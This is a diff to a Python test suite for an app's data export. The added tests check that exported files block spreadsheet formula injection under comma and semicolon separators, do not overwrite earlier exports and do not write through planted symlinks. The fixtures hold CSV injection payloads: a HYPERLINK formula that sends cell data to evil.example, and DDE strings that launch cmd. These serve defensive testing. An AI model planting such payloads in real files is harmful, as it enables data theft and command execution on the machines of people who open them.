@@ -27,6 +27,9 @@ MakeApp = Callable[..., KrafterApp]
 HOSTILE_SITE = '=HYPERLINK("http://evil.example/?x="&A1)/../../etc/\x1b]0;PWNED\x07passwd'
 HOSTILE_PAGE = '=HYPERLINK("http://evil.example","click")'
 HOSTILE_EVENT = "+cmd|' /C calc'!A0"
+# Harmless in a comma spreadsheet; where ';' separates cells the middle is a formula.
+SEMICOLON_PAGE = "x;=2+5+cmd|' /C calc'!A0;"
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 class HostileNames(httpx.AsyncBaseTransport):
@@ -47,6 +50,8 @@ class HostileNames(httpx.AsyncBaseTransport):
         elif last == "stats" and body["data"].get("breakdown"):
             row = {"value": HOSTILE_PAGE, "count": 10**9, "percent": 99.0}
             body["data"]["breakdown"]["path"].insert(0, row)
+            row = {"value": SEMICOLON_PAGE, "count": 10**9 - 1, "percent": 98.0}
+            body["data"]["breakdown"]["path"].insert(1, row)
         elif last == "events":
             body["data"].insert(
                 0, {"event_name": HOSTILE_EVENT, "total": 10**9, "unique_count": 1, "revenue": None}
@@ -84,6 +89,32 @@ async def test_a_hostile_site_name_gives_a_safe_file_name_and_guarded_cells(
         assert "\x1b" not in path.read_text() and "\x07" not in path.read_text()
 
 
+async def test_no_cell_starts_a_formula_with_either_list_separator(
+    make_app: MakeApp, demo: DemoApp, tmp_path: Path
+) -> None:
+    folder = tmp_path / "downloads"
+    breakdown, events, timeseries = await run_export(
+        make_app(transport=HostileNames(demo)), "bet", folder
+    )
+    assert SEMICOLON_PAGE in breakdown.read_text()  # the attack is in the file
+    for path in (breakdown, events, timeseries):
+        for separator in (",", ";"):  # as Excel reads it in English and in French or German
+            for row in csv.reader(io.StringIO(path.read_text()), delimiter=separator):
+                for cell in row:
+                    assert is_number(cell) or not cell.startswith(FORMULA_START), (
+                        f"{path.name} split by {separator!r} has the cell {cell!r}"
+                    )
+
+
+def is_number(cell: str) -> bool:
+    """Whether a spreadsheet reads ``cell`` as a plain number."""
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
 async def test_a_folder_that_cannot_be_made_says_so(make_app: MakeApp, tmp_path: Path) -> None:
     blocker = tmp_path / "a-file"
     blocker.write_text("not a folder")
@@ -118,6 +149,58 @@ async def test_a_second_export_does_not_overwrite_the_first(
     first, second = await run_export(make_app(), "TT", folder)
     assert second.name == first.name.removesuffix(".json") + "-2.json"
     assert first.read_text() == second.read_text()
+
+
+async def test_the_third_and_the_1001st_export_overwrite_nothing(
+    make_app: MakeApp, tmp_path: Path
+) -> None:
+    folder = tmp_path / "downloads"
+    app = make_app()
+    async with app.run_test(size=(120, 40), notifications=True) as pilot:
+        await settle(pilot)
+        first = await export(pilot, "T", folder, set())
+        stem = first.name.removesuffix(".json")
+        second = await export(pilot, "T", folder, {first})
+        assert second.name == f"{stem}-2.json"
+        second.write_text("mine")
+        third = await export(pilot, "T", folder, {first, second})
+        assert third.name == f"{stem}-3.json"
+        assert second.read_text() == "mine"
+        for number in range(4, 1001):
+            (folder / f"{stem}-{number}.json").write_text(f"mine {number}")
+        before = set(folder.iterdir())
+        last = await export(pilot, "T", folder, before)
+    assert last.name == f"{stem}-1001.json"
+    assert json.loads(last.read_text()) == json.loads(first.read_text())
+    assert second.read_text() == "mine"
+    for number in range(4, 1001):
+        assert (folder / f"{stem}-{number}.json").read_text() == f"mine {number}"
+
+
+async def test_a_link_planted_under_the_next_name_is_not_written_through(
+    make_app: MakeApp, tmp_path: Path
+) -> None:
+    folder = tmp_path / "downloads"
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    kept = elsewhere / "kept.txt"
+    kept.write_text("not yours")
+    app = make_app()
+    async with app.run_test(size=(120, 40), notifications=True) as pilot:
+        await settle(pilot)
+        first = await export(pilot, "t", folder, set())
+        stem = first.name.removesuffix(".csv")
+        # The next names: a dangling link (Path.exists() is False for it) and a link to a
+        # file of someone else's.
+        dangling, linked = folder / f"{stem}-2.csv", folder / f"{stem}-3.csv"
+        dangling.symlink_to(elsewhere / "made-through-the-link.csv")
+        linked.symlink_to(kept)
+        second = await export(pilot, "t", folder, {first, dangling, linked})
+    assert second.name == f"{stem}-4.csv"
+    assert second.read_text() == first.read_text()
+    assert sorted(p.name for p in elsewhere.iterdir()) == ["kept.txt"]
+    assert kept.read_text() == "not yours"
+    assert dangling.is_symlink() and linked.is_symlink()
 
 
 async def test_esc_closes_the_dialog_without_saving(make_app: MakeApp, tmp_path: Path) -> None:
